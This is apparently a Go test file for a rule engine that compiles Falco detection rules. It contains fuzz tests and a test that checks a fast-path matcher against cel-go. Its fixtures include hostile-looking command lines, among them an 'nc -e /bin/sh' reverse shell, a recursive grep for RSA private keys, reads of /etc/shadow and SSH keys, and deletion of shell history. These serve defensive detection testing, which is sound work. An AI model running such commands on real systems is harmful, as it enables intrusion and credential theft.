package ruleengine

import (
	"errors"
	"fmt"
	"slices"
	"testing"
	"time"

	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/otelsec/otelsec/internal/falcotest"
)

// FuzzFalcoCondition feeds arbitrary Falco conditions and outputs (with a few macros and
// lists to refer to) to the loader: it must return an engine or an *Error, never panic or
// hang, and a compiled engine must match and render records without panicking.
func FuzzFalcoCondition(f *testing.F) {
	for _, c := range [][2]string{
		{"evt.type = execve and proc.name in (shells) and not user_known", "%proc.name %fd.name %proc.aname[2]"},
		{"(open_write) and (fd.name glob '/etc/*' or fd.directory pmatch (/usr, \"/a b\"))", "x=%evt.arg.flags"},
		{"evt.type in (connect, sendto) and fd.snet in ('\"10.0.0.0/8\"') and fd.sport in (ports)", "%fd.sip:%fd.sport"},
		{"not not not(proc.args icontains \"-e\\\"x\" or proc.cmdline regex 'a[b]c')", "%%proc.name"},
		{"evt.num > 0 and proc.tty != 0 and container.id != host and evt.res startswith E", "%evt.res %proc.tty %container.id"},
		{"fd.name bcontains 2f6574 and fd.num >= -1 and proc.aname exists", "%thread.tid"},
		{"(((((((((evt.type=open)))))))))", ""},
		{"evt.type = execve and", "%"},
		{"proc.name = 'unterminated", "%proc.nam"},
	} {
		f.Add(c[0], c[1])
	}
	f.Fuzz(func(t *testing.T, cond, output string) {
		tm := time.AfterFunc(10*time.Second, func() { panic(fmt.Sprintf("HANG %q %q", cond, output)) })
		defer tm.Stop()
		file := fmt.Sprintf(`- required_engine_version: 0.57.0
- list: shells
  items: [bash, sh]
- list: ports
  items: [22, 80]
- macro: user_known
  condition: (evt.num = 0)
- macro: open_write
  condition: evt.type = openat and evt.is_open_write = true
- rule: r
  desc: d
  condition: %q
  output: %q
  priority: WARNING
`, cond, output)
		e, _, err := Compile([]Source{{Name: "f.yaml", Data: []byte(file)}}, Options{MatchAll: true})
		if err != nil {
			var re *Error
			if !errors.As(err, &re) {
				t.Fatalf("error is %T, not *Error: %v", err, err)
			}
			return
		}
		for _, lr := range falcoFuzzRecords() {
			for _, r := range e.Match(pcommon.NewMap(), lr, nil) {
				_ = r.Render(pcommon.NewMap(), lr)
			}
		}
	})
}

func falcoFuzzRecords() []plog.LogRecord {
	return []plog.LogRecord{
		execRec(shellUser), execRec(shellUser.with(inContainer)), open(catShadow, "/etc/shadow", "O_RDONLY"),
		open(catShadow.with(func(p *falcoProc) { p.ret, p.errno = -2, "ENOENT" }), "/etc/x", "O_WRONLY", "O_TRUNC"),
		shellUser.with(func(p *falcoProc) { p.syscall = "connect" }).record("network.connect", "network.peer.address", "10.1.2.3", "network.peer.port", 22, "network.type", "ipv4", "network.transport", "tcp"),
		rec("network.send"), rec(""),
	}
}

// TestFalcoFastPathAgreesWithCEL runs Falco's files on the fast path and on cel-go over the
// fixture records and variants of them: the answers are the same.
func TestFalcoFastPathAgreesWithCEL(t *testing.T) {
	files := []string{falcotest.Stable, falcotest.Incubating, falcotest.Sandbox}
	fast, _, _ := loadFalco(t, Options{MatchAll: true}, files...)
	slow, _, _ := loadFalco(t, Options{MatchAll: true, celOnly: true}, files...)
	var records []plog.LogRecord
	for _, p := range []falcoProc{shellUser, catShadow, shellUser.with(inContainer), catShadow.with(func(p *falcoProc) { p.ret, p.errno = -13, "EACCES" })} {
		for _, cmd := range []string{"bash", "nc -e /bin/sh 1.2.3.4 4444", "grep -r BEGIN RSA PRIVATE /", "/dev/shm/x", "-bash", "sshd: root@pts/1", "", "python3 /usr/bin/unattended-upgrade"} {
			q := p.with(func(p *falcoProc) { p.cmdline = cmd })
			records = append(records, execRec(q), open(q, "/etc/shadow", "O_RDONLY"), open(q, "/var/log/syslog", "O_WRONLY", "O_TRUNC"),
				open(q, "/root/.ssh/id_rsa", "O_RDWR", "O_CREAT"), open(q, "/etc", "O_RDONLY", "O_DIRECTORY"),
				q.with(func(p *falcoProc) { p.syscall = "connect" }).record("network.connect", "network.peer.address", "169.254.169.254", "network.peer.port", 80, "network.type", "ipv4", "network.transport", "tcp"),
				q.with(func(p *falcoProc) { p.syscall = "sendto" }).record("network.send", "network.peer.address", "8.8.8.8", "network.peer.port", 53, "network.type", "ipv4", "network.transport", "udp"),
				q.with(func(p *falcoProc) { p.syscall = "dup2" }).record("fd.dup", "fd.type", "socket", "network.peer.address", "::1", "fd.new", 1),
				q.with(func(p *falcoProc) { p.syscall = "symlinkat" }).record("file.symlink", "file.path", "/tmp/l", "file.symbolic_link.target_path", "/etc"),
				q.with(func(p *falcoProc) { p.syscall = "ptrace" }).record("process.ptrace", "ptrace.request", "PTRACE_TRACEME"),
				q.with(func(p *falcoProc) { p.syscall = "unlinkat" }).record("file.unlink", "file.path", "/root/.bash_history"),
				q.with(func(p *falcoProc) { p.syscall = "setuid" }).record("privilege.setuid", "privilege.target_user.id", 0),
			)
		}
	}
	matched := 0
	for _, lr := range records {
		got, want := names(fast.Match(pcommon.NewMap(), lr, nil)), names(slow.Match(pcommon.NewMap(), lr, nil))
		if !slices.Equal(got, want) {
			t.Errorf("%s %v: fast %q, cel %q", lr.EventName(), lr.Attributes().AsRaw(), got, want)
		}
		matched += len(got)
	}
	if matched == 0 {
		t.Fatal("no record matched: the comparison proves nothing")
	}
	t.Logf("%d records, %d matches", len(records), matched)
}
